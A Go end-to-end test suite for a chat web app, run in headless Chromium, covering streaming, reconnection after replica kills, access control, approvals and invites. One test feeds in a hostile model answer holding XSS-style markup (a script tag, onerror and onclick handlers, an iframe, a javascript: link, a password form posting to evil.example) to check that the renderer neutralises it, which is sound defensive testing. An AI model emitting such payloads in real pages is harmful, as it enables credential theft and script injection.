package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/turngate/turngate/gateway"
	"github.com/turngate/turngate/internal/e2etest"
	"github.com/turngate/turngate/internal/gqlclient"
	"github.com/turngate/turngate/internal/servertest"
	"github.com/turngate/turngate/outcome"
	"github.com/turngate/turngate/server"
)

// The chat web app in a real Chromium, against a real server. The tests
// run beside the tier's others, with at most browserTabs tabs open at once
// (newBrowser): a tab is heavy on a two-core runner.

// serverAnswer reads a turn's state and answer from the server.
func serverAnswer(t *testing.T, ctx context.Context, c *gqlclient.Client, id string) (state, answer string) {
	t.Helper()
	var out struct {
		Turn struct {
			State  string
			Answer *string
		}
	}
	if err := c.Do(ctx, `query($id: ID!) { turn(id: $id) { state answer } }`, map[string]any{"id": id}, &out); err != nil {
		t.Fatal(err)
	}
	if out.Turn.Answer != nil {
		answer = *out.Turn.Answer
	}
	return out.Turn.State, answer
}

// TestChatStreamsAnAnswer: dev mode opens the app as alice in a room; she
// sends a question with the composer (the textbox "Message", the button
// "Send"), and the answer streams into the "Transcript" with its tool
// activity and its sources; bob, in another tab on the same room, sees
// the same live transcript.
func TestChatStreamsAnAnswer(t *testing.T) {
	t.Parallel()
	// The demo's pace (TURNGATE_MODEL_PACE's default), so the figure the
	// test logs is the demo's.
	h := servertest.New(t, func(c *server.Config) { c.ModelPace = 25 * time.Millisecond })
	a := h.Client(t, alice)
	all := servertest.Rooms(t, a)
	team := all["Team room"].ID
	b := newBrowser(t, 3*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 2*time.Minute)
	defer cancel()

	first := openChat(t, b, ctx, h.Base, "/")
	first.waitConnection("Live")
	first.screenshot("chat-open")

	page := openChat(t, b, ctx, h.Base, "/#room="+team)
	page.waitConnection("Live")
	bobs := openChat(t, b, ctx, h.Base, "/")
	bobs.switchMember("bob@example.com")
	if err := chromedp.Do(bobs.ctx, chromedp.Navigate(h.Base+"/#room="+team), chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	bobs.waitRole("textbox", "Message")
	bobs.waitConnection("Live")

	question := "When is the launch?"
	sent := time.Now()
	page.send(question)
	page.turnWith(question, "the answer starts streaming", func(t pageTurn) bool { return t.Answer != "" })
	firstToken := time.Since(sent)
	done := page.turnWith(question, "the answer is complete with its sources", func(t pageTurn) bool { return t.Answered && t.Sources > 0 })
	if !strings.Contains(done.Tools, "ok") {
		t.Fatalf("tool activity %q: want the search, ok", done.Tools)
	}
	if _, answer := serverAnswer(t, ctx, a, done.ID); !strings.HasPrefix(answer, "You wrote") || !strings.Contains(done.Answer, "You wrote") {
		t.Fatalf("page answer %q, server answer %q", done.Answer, answer)
	}
	seen := bobs.turnWith(question, "bob's tab shows the same answer", func(t pageTurn) bool { return t.Answered })
	if seen.Answer != done.Answer || seen.ID != done.ID {
		t.Fatalf("bob sees %q, alice %q", seen.Answer, done.Answer)
	}
	page.screenshot("chat-answer")
	t.Logf("figure: Send to first token on the demo: %s", firstToken.Round(time.Millisecond))
}

// switchMember picks another demo member in the "Signed in as" switch.
func (p *chatPage) switchMember(email string) {
	p.t.Helper()
	p.waitRole("combobox", "Signed in as")
	// React listens for change events and tracks the value it set: set
	// the value through the element's own setter, then fire the event.
	if _, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool](`(() => {
  const el = [...document.querySelectorAll('select')].find((s) => s.closest('label')?.innerText.startsWith('Signed in as'));
  Object.getOwnPropertyDescriptor(HTMLSelectElement.prototype, 'value').set.call(el, `+jsString(email)+`);
  el.dispatchEvent(new Event('change', { bubbles: true }));
  return true;
})()`)); err != nil {
		p.t.Fatalf("switch to %s: %v", email, err)
	}
}

func jsString(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'"
}

// TestChatReloadMidAnswer: reloading the page while an answer streams
// picks the stream up where the journal has it: every answer the page
// shows after the reload is the start of the final answer (nothing
// repeated, nothing missing), and the answer completes.
func TestChatReloadMidAnswer(t *testing.T) {
	t.Parallel()
	// Slow enough that the answer still streams when the reloaded page
	// has connected again, while the rest of the tier runs beside it.
	h := servertest.New(t, func(c *server.Config) { c.ModelPace = 150 * time.Millisecond })
	a := h.Client(t, alice)
	team := servertest.Rooms(t, a)["Team room"].ID
	b := newBrowser(t, 3*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 2*time.Minute)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/#room="+team)
	page.waitConnection("Live")

	question := "Where is the security policy, and what does it say?"
	page.send(question)
	before := page.turnWith(question, "the answer starts streaming", func(t pageTurn) bool { return t.Answer != "" && !t.Answered })
	if err := chromedp.Do(page.ctx, chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	page.waitRole("textbox", "Message")
	var streamed []string
	final := page.turnWith(question, "the answer completes after the reload", func(t pageTurn) bool {
		if !t.Answered && t.Answer != "" {
			streamed = append(streamed, t.Answer)
		}
		return t.Answered
	})
	if len(streamed) == 0 {
		t.Fatalf("the answer finished before the reloaded page showed it streaming (before: %q): nothing was proved", before.Answer)
	}
	for _, s := range streamed {
		if !streamedPrefix(s, final.Answer) {
			t.Fatalf("after the reload the page showed %q, which is not how %q starts", s, final.Answer)
		}
	}
	if state, _ := serverAnswer(t, ctx, a, final.ID); state != "COMPLETED" {
		t.Fatalf("turn %s", state)
	}
	page.screenshot("chat-reloaded")
}

// TestChatSurvivesKill9OfItsReplica: two replicas on one database behind
// one address; the page streams from the first; it is killed with -9
// mid-answer; the page reconnects through the same address to the other
// replica and the answer completes, as the server has it.
func TestChatSurvivesKill9OfItsReplica(t *testing.T) {
	t.Parallel()
	bin := e2etest.PlainBinary(t) // a client under test: see PlainBinary
	w := e2etest.NewWorld(t, bin, "turngate-web-kill-")
	f := newFrontDoor(t, w, 2, "TURNGATE_LEASE_TTL=2s", "TURNGATE_MODEL_PACE=60ms")
	a := w.Client(t, f.base, alice)
	team := servertest.Rooms(t, a)["Team room"].ID
	b := newBrowser(t, 3*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 2*time.Minute)
	defer cancel()
	page := openChat(t, b, ctx, f.base, "/#room="+team)
	page.waitConnection("Live")

	question := "When is the launch, and who decided it?"
	page.send(question)
	before := page.turnWith(question, "the answer starts streaming", func(t pageTurn) bool { return len(t.Answer) > 20 && !t.Answered })
	f.killFirst()
	killed := time.Now()
	var again time.Duration
	done := page.turnWith(question, "the answer completes after the kill", func(t pageTurn) bool {
		if again == 0 && (t.Answer != before.Answer || t.Answered) {
			again = time.Since(killed)
		}
		return t.Answered
	})
	_, answer := serverAnswer(t, ctx, a, done.ID)
	if !strings.Contains(done.Answer, strings.SplitN(answer, "[", 2)[0]) {
		t.Fatalf("the page's answer %q is not the server's %q", done.Answer, answer)
	}
	// The answer shows once, the last attempt's alone: it starts as the
	// server's starts, that start appears once (the builtin model writes
	// the same text on every attempt, so a joined partial would repeat
	// it), and it ends as the server's ends.
	head, tail := strings.SplitN(answer, "[", 2)[0], answer[strings.LastIndex(answer, "]")+1:]
	if strings.Count(done.Answer, strings.TrimSpace(head)) != 1 || !strings.HasSuffix(strings.TrimSpace(done.Answer), strings.TrimSpace(tail)) {
		t.Fatalf("the page's answer %q is not the server's %q, once", done.Answer, answer)
	}
	page.waitConnection("Live")
	page.screenshot("chat-after-kill9")
	var attempt struct{ Turn struct{ Attempt int } }
	if err := a.Do(ctx, `query($id: ID!) { turn(id: $id) { attempt } }`, map[string]any{"id": done.ID}, &attempt); err != nil {
		t.Fatal(err)
	}
	// When the killed replica was running the turn, attempt 1 had
	// streamed what the page showed before the kill: the page marks it
	// interrupted. When the other replica ran it, nothing was.
	want := ""
	if attempt.Turn.Attempt > 1 {
		want = "1"
	}
	if done.Interrupted != want {
		t.Fatalf("the page marks attempts %q interrupted; the turn ended on attempt %d", done.Interrupted, attempt.Turn.Attempt)
	}
	// Attempt 2: the killed replica was running the turn too, and the
	// figure includes its recovery (a 2 s lease here).
	t.Logf("figure: kill -9 of the serving replica to the answer streaming again: %s (the turn ended on attempt %d)", again.Round(time.Millisecond), attempt.Turn.Attempt)
}

// TestChatFailsClosedForBob: bob opening alice's private room by its
// address is told it is not available, the stream is closed, and the page
// does not retry.
func TestChatFailsClosedForBob(t *testing.T) {
	t.Parallel()
	h := servertest.New(t, nil)
	a := h.Client(t, alice)
	private := servertest.Rooms(t, a)["Alice's notes"].ID
	b := newBrowser(t, 2*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/")
	page.switchMember("bob@example.com")
	if err := chromedp.Do(page.ctx, chromedp.Navigate(h.Base+"/#room="+private), chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	page.waitConnection("Closed")
	alert, err := chromedp.Run(page.ctx, chromedp.Text("", byRole("alert", "")))
	if err != nil || !strings.Contains(alert, "not available") {
		t.Fatalf("alert %q (%v)", alert, err)
	}
	if ts, _ := page.turns(); len(ts) != 0 {
		t.Fatalf("bob sees %d of alice's turns", len(ts))
	}
	// No retry loop: over the next second and a half the page sends no
	// further GraphQL request.
	posts := page.graphqlPosts.Load()
	watch, stop := context.WithTimeout(page.ctx, 1500*time.Millisecond)
	defer stop()
	err = browserPoll(watch, "the page sends another request", 50*time.Millisecond, func() (bool, error) {
		return page.graphqlPosts.Load() > posts, nil
	})
	if err == nil {
		t.Fatalf("the page retried: %d requests after the refusal", page.graphqlPosts.Load()-posts)
	}
	page.screenshot("chat-bob-refused")
}

// TestChatDecidesAnApproval: the assistant proposes a webhook; the
// approval shows in the page with Approve and Deny for its author; alice
// approves and the effect runs once.
func TestChatDecidesAnApproval(t *testing.T) {
	t.Parallel()
	model := httptest.NewServer(http.HandlerFunc(effectModel))
	defer model.Close()
	rec := &countingReceiver{}
	receiver := httptest.NewServer(rec)
	defer receiver.Close()
	h := servertest.New(t, func(c *server.Config) {
		c.OpenAI = gateway.OpenAIConfig{BaseURL: model.URL, APIKey: "sk-local", Model: "m"}
		c.AgentRoute = "openai"
		c.Webhooks = map[string]string{"ops": receiver.URL}
		c.ApprovalTimeout = 5 * time.Minute
	})
	a := h.Client(t, alice)
	team := servertest.Rooms(t, a)["Team room"].ID
	b := newBrowser(t, 2*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/#room="+team)
	page.waitConnection("Live")
	question := "tell ops to deploy v2"
	page.send(question)
	page.waitRole("group", "Approval for send_webhook")
	page.screenshot("chat-approval")
	if got := rec.got(); len(got) != 0 {
		t.Fatalf("the webhook ran before a decision: %v", got)
	}
	page.click("button", "Approve")
	done := page.turnWith(question, "the approved turn completes", func(t pageTurn) bool { return t.Answered })
	if got := rec.got(); len(got) != 1 {
		t.Fatalf("deliveries %v, want exactly one", got)
	}
	if state, _ := serverAnswer(t, ctx, a, done.ID); state != "COMPLETED" {
		t.Fatalf("turn %s", state)
	}
}

// TestChatStopAndSteer: while a turn runs the page offers "Stop" and a
// steer box; a steer reaches the run and the answer follows it; Stop
// cancels the next turn.
func TestChatStopAndSteer(t *testing.T) {
	t.Parallel()
	h := servertest.New(t, func(c *server.Config) { c.ModelPace = 60 * time.Millisecond })
	a := h.Client(t, alice)
	private := servertest.Rooms(t, a)["Alice's notes"].ID
	b := newBrowser(t, 3*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 2*time.Minute)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/#room="+private)
	page.waitConnection("Live")

	steered := "Tell me about the launch?"
	page.send(steered)
	page.waitRole("textbox", "Steer")
	page.fill("Steer", "mention the weather")
	page.click("button", "Steer")
	got := page.turnWith(steered, "the steered answer completes", func(t pageTurn) bool { return t.Answered })
	if !strings.Contains(got.Steers, "delivered") || !strings.Contains(got.Answer, "mention the weather") {
		t.Fatalf("steers %q, answer %q: want the steer delivered and followed", got.Steers, got.Answer)
	}
	page.screenshot("chat-steered")

	stopped := "Write me a long answer I will stop?"
	page.send(stopped)
	page.turnWith(stopped, "the answer starts streaming", func(t pageTurn) bool { return t.Answer != "" })
	page.click("button", "Stop")
	end := page.turnWith(stopped, "the turn shows it stopped", func(t pageTurn) bool { return t.Status == "Stopped." })
	if state, _ := serverAnswer(t, ctx, a, end.ID); state != "CANCELLED" {
		t.Fatalf("turn %s, want CANCELLED", state)
	}
	page.screenshot("chat-stopped")
}

// TestChatCreatesAndInvites: alice creates a shared room in the page,
// invites bob by email, and the room is in bob's list.
func TestChatCreatesAndInvites(t *testing.T) {
	t.Parallel()
	h := servertest.New(t, nil)
	bob := h.Client(t, "bob@example.com")
	b := newBrowser(t, 2*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/")
	page.fill("Room title", "Launch crew")
	page.click("checkbox", "shared")
	page.click("button", "Create room")
	page.waitRole("heading", "Launch crew")
	page.waitConnection("Live")
	page.fill("Invite by email", "bob@example.com")
	page.click("button", "Invite")
	if err := browserPoll(ctx, "the page says bob joined, and bob is in the new room", 50*time.Millisecond, func() (bool, error) {
		note, err := chromedp.Run(page.ctx, chromedp.Evaluate[string](`document.querySelector('form[aria-label="Invite"] [role="status"]')?.innerText ?? ''`))
		if err != nil || note != "bob@example.com joined the room." {
			return false, err
		}
		_, ok := servertest.Rooms(t, bob)["Launch crew"]
		return ok, nil
	}); err != nil {
		t.Fatal(err)
	}
	page.screenshot("chat-invited")
}

// hostileAnswer is model output that tries everything markup can: a style
// sheet, a form asking for a password, an input, images from elsewhere
// (raw and Markdown), a script, an iframe, a javascript: link, a raw link
// with a handler — around the Markdown the app renders, and an external
// link whose text hides where it leads.
const hostileAnswer = "Here is **bold** text, `code` and a list:\n\n- one\n- two\n\n" +
	"<style>body { background: rgb(255, 0, 0) !important } .answer { display: none }</style>\n\n" +
	"<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\" placeholder=\"Password\"><button>Log in</button></form>\n\n" +
	"<img src=\"https://tracker.example/pixel.png\" onerror=\"window.pwned = 'img'\">\n\n" +
	"<script>window.pwned = 'script'</script>\n\n" +
	"<iframe src=\"https://evil.example/frame\"></iframe>\n\n" +
	"![pixel](https://tracker.example/md.png)\n\n" +
	"[click me](javascript:window.pwned='link') and <a href=\"https://evil.example\" onclick=\"window.pwned='click'\">raw link</a>\n\n" +
	"- [ ] a task\n\n" +
	"Read [your bank](https://evil.example/login?next=1) for details."

// hostileModel answers every request with hostileAnswer.
func hostileModel(w http.ResponseWriter, r *http.Request) {
	io.ReadAll(r.Body)
	w.Header().Set("Content-Type", "text/event-stream")
	content, _ := json.Marshal(map[string]string{"role": "assistant", "content": hostileAnswer})
	fmt.Fprintf(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":%s,\"finish_reason\":null}]}\n\n", content)
	fmt.Fprint(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n")
}

// renderedAnswer is what the page made of an answer.
type renderedAnswer struct {
	Elements  []string          `json:"elements"`  // every element's tag in the answer, lowercased
	Handlers  []string          `json:"handlers"`  // on* attributes anywhere in the answer
	Classes   []string          `json:"classes"`   // class attributes the page did not set
	Hrefs     []string          `json:"hrefs"`     // every link's href
	External  map[string]string `json:"external"`  // the external link's rel, target, title and the text beside it
	Text      string            `json:"text"`      // the answer's text
	Pwned     string            `json:"pwned"`     // window.pwned, set by any script that ran
	BodyColor string            `json:"bodyColor"` // body's computed background
}

// TestChatRendersOnlyMarkdown: an answer full of markup renders as the
// Markdown the app supports — bold, code, lists, links — and nothing
// else: no style, form, input, image, script or iframe element, no
// handler, no javascript: link, nothing fetched from the image hosts, raw
// HTML shown as text. The external link opens in a new tab with
// rel="noopener noreferrer", its address as its title and its host shown
// beside its text.
func TestChatRendersOnlyMarkdown(t *testing.T) {
	t.Parallel()
	model := httptest.NewServer(http.HandlerFunc(hostileModel))
	defer model.Close()
	h := servertest.New(t, func(c *server.Config) {
		c.OpenAI = gateway.OpenAIConfig{BaseURL: model.URL, APIKey: "sk-local", Model: "m"}
		c.AgentRoute = "openai"
	})
	a := h.Client(t, alice)
	private := servertest.Rooms(t, a)["Alice's notes"].ID
	b := newBrowser(t, 2*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	page := openChat(t, b, ctx, h.Base, "/#room="+private)
	var fetched []string
	var mu sync.Mutex
	if err := chromedp.Listen(page.ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok && !strings.HasPrefix(e.Request.URL, h.Base) {
			mu.Lock()
			fetched = append(fetched, e.Request.URL)
			mu.Unlock()
		}
	}); err != nil {
		t.Fatal(err)
	}
	page.waitConnection("Live")
	question := "show me everything"
	page.send(question)
	done := page.turnWith(question, "the answer is complete", func(t pageTurn) bool { return t.Answered })
	got, err := chromedp.Run(page.ctx, chromedp.Evaluate[renderedAnswer](`(() => {
  const answer = [...document.querySelectorAll('article')].find((a) => a.dataset.turnId === `+jsString(done.ID)+`).querySelector('.answer');
  const all = [...answer.querySelectorAll('*')];
  const ext = answer.querySelector('a[href^="https://evil.example/login"]');
  return {
    elements: all.map((e) => e.localName),
    handlers: all.flatMap((e) => [...e.attributes].filter((at) => at.name.startsWith('on')).map((at) => e.localName + '.' + at.name)),
    classes: all.filter((e) => e.className && !['external', 'link-host', 'cite'].includes(e.className)).map((e) => e.localName + '.' + e.className),
    hrefs: [...answer.querySelectorAll('a')].map((l) => l.getAttribute('href')),
    external: ext ? { rel: ext.rel, target: ext.target, title: ext.title, beside: ext.nextSibling?.textContent ?? '' } : null,
    text: answer.innerText,
    pwned: String(window.pwned ?? ''),
    bodyColor: getComputedStyle(document.body).backgroundColor,
  };
})()`))
	if err != nil {
		t.Fatal(err)
	}
	for _, tag := range got.Elements {
		switch tag {
		case "style", "form", "input", "button", "img", "script", "iframe", "textarea", "select", "link", "meta", "svg", "object", "embed":
			t.Errorf("the answer holds a <%s> element: %v", tag, got.Elements)
		}
	}
	for _, want := range []string{"strong", "code", "li", "a"} {
		if !slices.Contains(got.Elements, want) {
			t.Errorf("the answer lost its Markdown: no <%s> in %v", want, got.Elements)
		}
	}
	if len(got.Handlers) > 0 || len(got.Classes) > 0 || got.Pwned != "" {
		t.Errorf("handlers %v, classes %v, script ran %q", got.Handlers, got.Classes, got.Pwned)
	}
	for _, href := range got.Hrefs {
		if !strings.HasPrefix(href, "https://") && !strings.HasPrefix(href, "#") {
			t.Errorf("a link to %q", href)
		}
	}
	if got.External == nil {
		t.Fatalf("the external link is gone: links %v", got.Hrefs)
	}
	if e := got.External; e["rel"] != "noopener noreferrer" || e["target"] != "_blank" || e["title"] != "https://evil.example/login?next=1" || !strings.Contains(e["beside"], "evil.example") {
		t.Errorf("the external link: %v; want rel=noopener noreferrer, a new tab, its address as title and its host beside it", e)
	}
	if !strings.Contains(got.Text, "<form") || !strings.Contains(got.Text, "<script>") {
		t.Errorf("raw HTML is not shown as text: %q", got.Text)
	}
	if got.BodyColor == "rgb(255, 0, 0)" {
		t.Errorf("the answer's style sheet applied: body is %s", got.BodyColor)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, u := range fetched {
		if strings.Contains(u, "tracker.example") || strings.Contains(u, "evil.example") {
			t.Errorf("the page fetched %s", u)
		}
	}
	page.screenshot("chat-hostile-answer")
}

// TestChatTellsTheOwnerWhatANewcomerReadsWithheld: alice, alone in a
// shared room, asked about the compensation bands, which only she may
// read. She invites bob in the page: it tells her bob will read that
// earlier turn withheld. Bob's page shows the turn in its place with the
// withheld notice as its answer and no sources; alice's still shows the
// answer.
func TestChatTellsTheOwnerWhatANewcomerReadsWithheld(t *testing.T) {
	t.Parallel()
	h := servertest.New(t, nil)
	b := newBrowser(t, 2*time.Minute)
	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
	defer cancel()
	a := h.Client(t, alice)
	room, bands := servertest.SoloSharedRoom(t, ctx, h, a)
	drewOn(t, ctx, h.DB, room, bands, "Compensation bands 2027")
	question := "What are the engineering bands for 2027?"

	page := openChat(t, b, ctx, h.Base, "/#room="+room)
	page.waitConnection("Live")
	page.turnWith(question, "alice reads her answer", func(t pageTurn) bool { return t.Answered && strings.Contains(t.Answer, "95,000") })
	page.fill("Invite by email", bob)
	page.click("button", "Invite")
	want := "bob@example.com joined the room. 1 earlier turn drew on documents they may not read: they will see it withheld."
	var note string
	if err := browserPoll(ctx, "the page tells alice what bob reads withheld", 50*time.Millisecond, func() (bool, error) {
		var err error
		note, err = chromedp.Run(page.ctx, chromedp.Evaluate[string](`document.querySelector('form[aria-label="Invite"] [role="status"]')?.innerText ?? ''`))
		return note == want, err
	}); err != nil {
		t.Fatalf("%v: the note reads %q", err, note)
	}
	page.screenshot("chat-invited-withheld")

	bobs := openChat(t, b, ctx, h.Base, "/")
	bobs.switchMember(bob)
	if err := chromedp.Do(bobs.ctx, chromedp.Navigate(h.Base+"/#room="+room), chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	bobs.waitConnection("Live")
	seen := bobs.turnWith(question, "bob's page shows the turn", func(t pageTurn) bool { return t.Answered })
	if seen.Answer != outcome.WithheldAnswer || seen.Sources != 0 || seen.ID != bands {
		t.Fatalf("bob's page shows %+v; want the turn withheld, its answer the notice", seen)
	}
	bobs.screenshot("chat-withheld")
	if own := page.turnWith(question, "alice still reads her answer", func(t pageTurn) bool { return t.Answered }); !strings.Contains(own.Answer, "95,000") {
		t.Fatalf("alice's page after bob joined: %+v", own)
	}
}
